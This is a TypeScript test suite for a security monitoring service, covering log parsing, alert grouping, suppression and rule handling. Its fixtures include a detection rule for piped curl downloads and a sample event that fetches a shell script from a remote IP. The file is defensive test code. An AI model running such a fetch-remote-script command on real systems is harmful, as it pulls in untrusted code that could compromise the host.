import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { ManualClock, systemActor } from "@infrasec/core";
import { forEachDialect, type TestDatabase } from "@infrasec/storage/testing";
import type { Ctx } from "../shared/service-context";
import { readEvents } from "./event-reader";
import { createMonitoringService, type MonitoringService } from "./monitoring-service";
import { findSuppression } from "./suppression-fns";

/**
 * The monitoring pipeline on real storage: sources recognised per line, the grouping window,
 * repeats of closed alerts, rule enable/disable rebuilding the detector, and back-pressure.
 */

const ctx: Ctx = { actor: systemActor };
const RULE_ID = "0d3b7a10-5d7c-4c11-9a0e-0000000000aa";
const RULE = `title: Curl piped download (test)
id: ${RULE_ID}
author: Bob Builder
level: medium
logsource:
  product: linux
  category: process_creation
detection:
  selection:
    CommandLine|contains: 'curl -sSL'
  condition: selection
`;

const ecs = (host: string, ts: string) => ({
  "@timestamp": ts,
  host: { name: host },
  process: { executable: "/usr/bin/curl", command_line: "curl -sSL http://203.0.113.9/x.sh" },
});

describe("event reader", () => {
  it("recognises Falco, osquery, auditd and generic JSON lines in auto mode", () => {
    const r = readEvents(
      [
        JSON.stringify({
          hostname: "n1",
          rule: "r",
          priority: "Notice",
          time: "2026-11-25T10:00:00Z",
          output_fields: { "evt.type": "execve", "proc.exepath": "/bin/sh" },
        }),
        JSON.stringify({
          name: "pack_linux_process_events",
          hostIdentifier: "web-1",
          unixTime: 1795600000,
          action: "added",
          columns: { pid: "1", path: "/usr/bin/curl", cmdline: "curl -sSL x" },
        }),
        'type=SYSCALL msg=audit(1700000000.123:100): arch=c000003e syscall=59 success=yes exit=0 pid=1 ppid=0 auid=0 uid=0 comm="id" exe="/usr/bin/id"',
        JSON.stringify(ecs("h1", "2026-11-25T10:00:00Z")),
        "[1,2]",
        JSON.stringify({ message: "no time" }),
      ],
      "auto",
      "default-host",
    );
    expect(r.accepted).toBe(4);
    expect(r.rejected.map((x) => x.line)).toEqual([5, 6]);
    expect(new Set(r.events.map((e) => e.source))).toEqual(
      new Set(["falco", "osquery", "auditd", "generic"]),
    );
    const generic = r.events.find((e) => e.source === "generic")!;
    expect(generic.fields.Image).toBe("/usr/bin/curl");
    expect(generic.context?.host).toBe("h1");
    expect(r.events.find((e) => e.source === "auditd")!.context?.host).toBe("default-host");
  });

  it("matches suppression conditions on context and fields with wildcards", () => {
    const [e] = readEvents([JSON.stringify(ecs("web-7", "2026-11-25T10:00:00Z"))], "json").events;
    const s = (ruleId: string | null, conditions: Record<string, string>) => ({
      id: "s",
      ruleId,
      conditions,
    });
    expect(findSuppression([s(null, { host: "WEB-*" })], "r", e)).toBeDefined();
    expect(findSuppression([s("other", { host: "web-*" })], "r", e)).toBeUndefined();
    expect(findSuppression([s("r", { Image: "*/curl" })], "r", e)).toBeDefined();
    expect(findSuppression([s("r", { Image: "*/wget" })], "r", e)).toBeUndefined();
  });
});

forEachDialect(({ open }) => {
  let db: TestDatabase;
  let clock: ManualClock;
  let m: MonitoringService;
  beforeEach(async () => {
    db = await open();
    clock = new ManualClock("2026-11-25T12:00:00.000Z");
    m = createMonitoringService({ store: db.store, clock }, { groupWindowMinutes: 10 });
    await m.uploadRule(ctx, RULE, true);
  });
  afterEach(async () => {
    await db.cleanup();
  });

  const ingest = (...times: string[]) =>
    m.ingest(ctx, {
      lines: times.map((t) => JSON.stringify(ecs("web-1", t))),
      source: "json",
    });
  const alerts = async () =>
    (await m.listAlerts(ctx, { ruleId: RULE_ID, sort: "firstSeen", limit: 50, offset: 0 })).items;

  it("groups within the window, opens a new alert after it or once closed", async () => {
    const r = await ingest("2026-11-25T10:00:00Z", "2026-11-25T10:05:00Z");
    expect(r.alerts).toMatchObject({ created: 1, grouped: 1 });
    await ingest("2026-11-25T10:14:00Z");
    expect((await alerts()).map((a) => a.count)).toEqual([3]);
    await ingest("2026-11-25T11:00:00Z");
    let all = await alerts();
    expect(all.map((a) => a.count)).toEqual([3, 1]);
    await m.setAlertStatus(ctx, all[1]!.id, "resolved");
    await ingest("2026-11-25T11:01:00Z");
    all = await alerts();
    expect(all.map((a) => [a.status, a.count])).toEqual([
      ["new", 3],
      ["resolved", 1],
      ["new", 1],
    ]);
    expect(all[0]!.ruleAuthor).toBe("Bob Builder");
  });

  it("keeps the first N events of an alert only", async () => {
    const small = createMonitoringService({ store: db.store, clock }, { eventsKept: 2 });
    await small.ingest(ctx, {
      lines: [1, 2, 3].map((i) => JSON.stringify(ecs("web-2", `2026-11-25T10:0${i}:00Z`))),
      source: "auto",
    });
    const [a] = (
      await small.listAlerts(ctx, { host: "web-2", sort: "-lastSeen", limit: 5, offset: 0 })
    ).items;
    const d = await small.getAlert(ctx, a!.id);
    expect(d.count).toBe(3);
    expect(d.events.map((e) => e.seq)).toEqual([0, 1]);
  });

  it("rebuilds the detector when a rule is disabled, enabled or deleted", async () => {
    await m.setRuleEnabled(ctx, RULE_ID, false);
    await ingest("2026-11-25T10:00:00Z");
    expect(await alerts()).toHaveLength(0);
    await m.setRuleEnabled(ctx, RULE_ID, true);
    await ingest("2026-11-25T10:01:00Z");
    expect(await alerts()).toHaveLength(1);
    await m.deleteRule(ctx, RULE_ID);
    await expect(m.getRule(ctx, RULE_ID)).rejects.toMatchObject({ code: "not_found" });
    const actions = (await db.store.audit.list({ targetType: "detection_rule" }, 10)).map(
      (e) => e.action,
    );
    expect(actions).toEqual(
      expect.arrayContaining([
        "monitoring.rule.upload",
        "monitoring.rule.disable",
        "monitoring.rule.enable",
        "monitoring.rule.delete",
      ]),
    );
  });

  it("notices rule changes made by another process", async () => {
    const other = createMonitoringService({ store: db.store, clock });
    await ingest("2026-11-25T10:00:00Z");
    await other.setRuleEnabled(ctx, RULE_ID, false);
    await ingest("2026-11-25T10:01:00Z");
    expect((await alerts()).map((a) => a.count)).toEqual([1]);
  });

  it("refuses a request with 429 semantics while the queue is full", async () => {
    const tiny = createMonitoringService({ store: db.store, clock }, { queueCapacity: 1 });
    const lines = [JSON.stringify(ecs("web-3", "2026-11-25T10:00:00Z"))];
    const first = tiny.ingest(ctx, { lines, source: "json" });
    await expect(tiny.ingest(ctx, { lines, source: "json" })).rejects.toMatchObject({
      code: "rate_limited",
      retryAfterSeconds: 1,
    });
    await first;
    expect((await tiny.ingest(ctx, { lines, source: "json" })).accepted).toBe(1);
    expect((await tiny.status(ctx)).counters.throttled).toBe(1);
  });

  it("lists the built-in pack with each rule's own YAML", async () => {
    const { items } = await m.listRules(ctx, { origin: "builtin", limit: 1000, offset: 0 });
    expect(items.length).toBeGreaterThanOrEqual(40);
    for (const r of items.slice(0, 10)) {
      const d = await m.getRule(ctx, r.id);
      expect(d.author).toBe("infrasec");
      expect(d.yaml).toContain(`id: ${r.id}`);
      expect(d.yaml).not.toContain("\n---");
    }
  });

  it("refuses more than 5000 events per request", async () => {
    const lines = Array.from({ length: 5001 }, () => "{}");
    await expect(m.ingest(ctx, { lines, source: "json" })).rejects.toMatchObject({
      code: "payload_too_large",
    });
  });
});
